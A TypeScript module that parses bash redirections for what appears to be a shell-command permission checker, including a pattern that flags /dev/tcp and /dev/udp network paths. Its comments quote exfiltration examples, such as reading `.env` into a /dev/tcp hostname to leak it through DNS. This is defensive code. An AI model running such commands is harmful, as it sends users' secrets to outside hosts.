/**
 * Redirections (07 step 3): `>`, `>>`, `&>`, `&>>`, `>|` and `>&file` write a file; `<` reads
 * one; `2>&1`, `>&2`, `<&0` and closings (`>&-`) only duplicate descriptors; heredocs and
 * here-strings feed standard input. Grammar quirks handled here: words after a destination
 * (`echo > f x`) are the command's arguments, returned as `extra`; a heredoc's own text stops at
 * its delimiter word, because its body and any continuation of the line (`cat <<EOF | sh`,
 * `<<EOF && next`) sit inside the heredoc node and are walked by the caller.
 */
export * as BashParseRedirect from "./parse-redirect.js"

import path from "node:path"
import type { Node } from "web-tree-sitter"
import type { BashCommand } from "./command.js"
import type { BashParsePlace } from "./parse-place.js"
import { BashParseWord } from "./parse-word.js"

export const WRITES: ReadonlyArray<string> = [">", ">>", "&>", "&>>", ">|"]

export interface Redirect {
  /** "write": a file target; "read": a file read; "stdin": a heredoc or here-string; "other": descriptors. */
  readonly kind: "write" | "read" | "stdin" | "other"
  /** The file written or read, for "write" and "read". */
  readonly file: BashParseWord.Word | undefined
  /** Its text in a resource (`> out`, `2>&1`, `<<EOF`): never a heredoc's body. */
  readonly text: string
  /** Where that text ends in the source. */
  readonly end: number
  /** Words after the destination that are the command's arguments (`echo > f x`: `x`). */
  readonly extra: ReadonlyArray<Node>
}

const DESCRIPTOR = /^(?:\d+|-)$/

const kindOf = (operator: string, destination: BashParseWord.Word | undefined): Redirect["kind"] => {
  if (WRITES.includes(operator)) return "write"
  if (operator === "<") return "read"
  // `>&word` writes the file `word` unless the word is a descriptor number or `-`.
  if (operator === ">&" && destination !== undefined && (destination.literal === undefined || !DESCRIPTOR.test(destination.literal))) return "write"
  return "other"
}

/** The redirections one redirect node stands for: a heredoc also carries the ones on its line. */
export const read = (node: Node, source: string, tilde: BashParseWord.Tilde): ReadonlyArray<Redirect> => {
  if (node.type === "file_redirect") {
    const operator = node.children.find((child) => !child.isNamed)?.type ?? ""
    const [first, ...extra] = node.childrenForFieldName("destination")
    const file = first === undefined ? undefined : BashParseWord.read(first, source, tilde)
    const end = (first ?? node).endIndex
    return [{ kind: kindOf(operator, file), file, text: source.slice(node.startIndex, end), end, extra }]
  }
  if (node.type === "heredoc_redirect") {
    const start = node.children.find((child) => child.type === "heredoc_start") ?? node
    const nested = node.childrenForFieldName("redirect").flatMap((child) => read(child, source, tilde))
    const extra = node.childrenForFieldName("argument")
    const end = Math.max(start.endIndex, ...extra.map((word) => word.endIndex), ...nested.map((redirect) => redirect.end))
    return [{ kind: "stdin", file: undefined, text: source.slice(node.startIndex, start.endIndex), end, extra }, ...nested]
  }
  return [{ kind: "stdin", file: undefined, text: source.slice(node.startIndex, node.endIndex), end: node.endIndex, extra: [] }]
}

/** The file targets of `redirects` at each of `places`; `/dev/null` and `>(…)` are not targets (a descriptor path is, see BashParse). */
export const targets = (redirects: ReadonlyArray<Redirect>, places: BashParsePlace.Places): ReadonlyArray<BashCommand.Target> =>
  redirects.flatMap((redirect) => {
    const file = redirect.file
    if (redirect.kind !== "write" || file === undefined || BashParseWord.isNotFile(file)) return []
    return places.map((place) => ({ kind: "file" as const, path: file.path, cwd: place.cwd }))
  })

/** bash's own network paths: a redirection to one opens a connection instead of a file. */
const NETWORK = /^\/dev\/(?:tcp|udp)(?:\/|$)/

/**
 * Whether a redirection may open a network connection, in any direction (`3</dev/tcp/h/p` then
 * `>&3` sends a file out; `< /dev/tcp/$(cat .env).example/80` leaks through DNS): its file is
 * one of bash's `/dev/tcp` and `/dev/udp` paths, however spelled, or a file read that is not
 * static (`< "$f"` may name one). A write to a file that is not static already asks (07 step 3).
 */
export const connects = (redirect: Redirect): boolean => {
  const file = redirect.file
  if (file === undefined || BashParseWord.isNotFile(file)) return false
  if (file.path === undefined) return redirect.kind === "read" || redirect.kind === "other"
  return NETWORK.test(path.posix.normalize(file.path))
}

/**
 * Whether a redirection binds a descriptor to a file it opens for reading (`3< f`, `< f`): a write
 * to `/dev/fd/3` or `/dev/stdin` then reopens that file for writing.
 */
export const binds = (redirect: Redirect): boolean => redirect.kind === "read" && redirect.file !== undefined && !BashParseWord.isNotFile(redirect.file)

/** The part of a heredoc node that belongs to its command: not the continuation of its line. */
export const own = (node: Node): ReadonlyArray<Node> =>
  node.type === "heredoc_redirect" ? node.children.filter((child, index) => child.type !== "pipeline" && node.fieldNameForChild(index) !== "right") : node.children
